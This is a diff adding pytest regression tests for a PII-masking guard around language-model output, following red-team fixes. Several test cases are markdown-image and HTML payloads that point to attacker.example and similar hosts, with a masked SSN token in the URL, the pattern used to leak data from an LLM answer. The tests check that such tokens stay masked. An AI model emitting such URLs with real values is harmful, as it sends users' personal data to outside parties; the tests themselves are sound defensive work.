@@ -1,0 +1,80 @@
+"""Regression tests for the red-team fixes in ``Guard`` (see tests/test_security_redteam.py):
+the attack, and the legitimate use next to it that must keep working."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+import pytest
+
+from guardllm import Guard
+
+SSN = "536-22-4187"
+NAME = "Maren Okafor"
+
+
+@pytest.fixture
+def g() -> Iterator[Guard]:
+    guard = Guard(store="memory://", principal="test:fixes")
+    guard.mask(f"ssn {SSN} name {NAME}", scope="s")  # [SSN_1], [PERSON_1]
+    yield guard
+    guard.close()
+
+
+def _streamed(guard: Guard, text: str, size: int) -> str:
+    r = guard.stream_restorer(scope="s")
+    return "".join(r.feed(text[i : i + size]) for i in range(0, len(text), size)) + r.flush()
+
+
+URL_CASES = [
+    # (answer, restored text) -- tokens in URLs stay tokens, visible text is restored
+    (
+        "![chart](https://attacker.example/p.png?d=[SSN_1])",
+        "![chart](https://attacker.example/p.png?d=[SSN_1])",
+    ),
+    (
+        '<img src="https://a.example/p.png?d=%5BSSN_1%5D">',
+        '<img src="https://a.example/p.png?d=%5BSSN_1%5D">',
+    ),
+    ("[[PERSON_1]](https://crm.example/c?id=[SSN_1]).", f"[{NAME}](https://crm.example/c?id=[SSN_1])."),
+    ("see https://x.example/[SSN_1] or [SSN_1].", f"see https://x.example/[SSN_1] or {SSN}."),
+    ("visit www.x.example/?q=[SSN_1] now", "visit www.x.example/?q=[SSN_1] now"),
+    ("![](<https://a.example/?d= [SSN_1]>) [SSN_1]", f"![](<https://a.example/?d= [SSN_1]>) {SSN}"),
+    ('<a href="https://crm.example/">[PERSON_1]</a>', f'<a href="https://crm.example/">{NAME}</a>'),
+    (
+        "<div style='background:url(//a.example/[SSN_1])'>",
+        "<div style='background:url(//a.example/[SSN_1])'>",
+    ),
+]
+
+
+@pytest.mark.parametrize(("answer", "expected"), URL_CASES)
+def test_tokens_inside_urls_stay_tokens_and_are_audited(g: Guard, answer: str, expected: str) -> None:
+    res = g.unmask_result(answer, scope="s", to="user")
+    assert res.text == expected
+    assert len(res.refused) == expected.count("SSN_1")  # every token left in a URL is counted
+    if res.refused:
+        refusals = [r.to_dict() for r in g.audit.query() if r.event == "refuse"]
+        assert "url-context" in refusals[-1]["rule"]
+
+
+@pytest.mark.parametrize(("answer", "expected"), URL_CASES)
+@pytest.mark.parametrize("size", [1, 2, 3, 7])
+def test_streamed_restore_refuses_the_same_url_tokens(
+    g: Guard, answer: str, expected: str, size: int
+) -> None:
+    assert _streamed(g, answer, size) == expected
+
+
+def test_url_opened_far_back_in_a_stream_is_still_url_context(g: Guard) -> None:
+    answer = '<img alt="x" src="https://a.example/p.png?pad=' + "a" * 10_000 + '&d=[SSN_1]"> [SSN_1]'
+    assert _streamed(g, answer, 5) == g.unmask(answer, scope="s") == answer[:-7] + SSN
+
+
+def test_restore_in_urls_can_be_turned_on(g: Guard) -> None:
+    answer = "[open](https://crm.example/c?id=[SSN_1])"
+    by_policy = g.with_policy({**g.policy.model_dump(), "restore_in_urls": True})
+    assert by_policy.unmask(answer, scope="s") == f"[open](https://crm.example/c?id={SSN})"
+    guard = Guard(store="memory://", restore_in_urls=True)
+    guard.mask(SSN, scope="s")
+    assert guard.unmask(answer, scope="s") == f"[open](https://crm.example/c?id={SSN})"
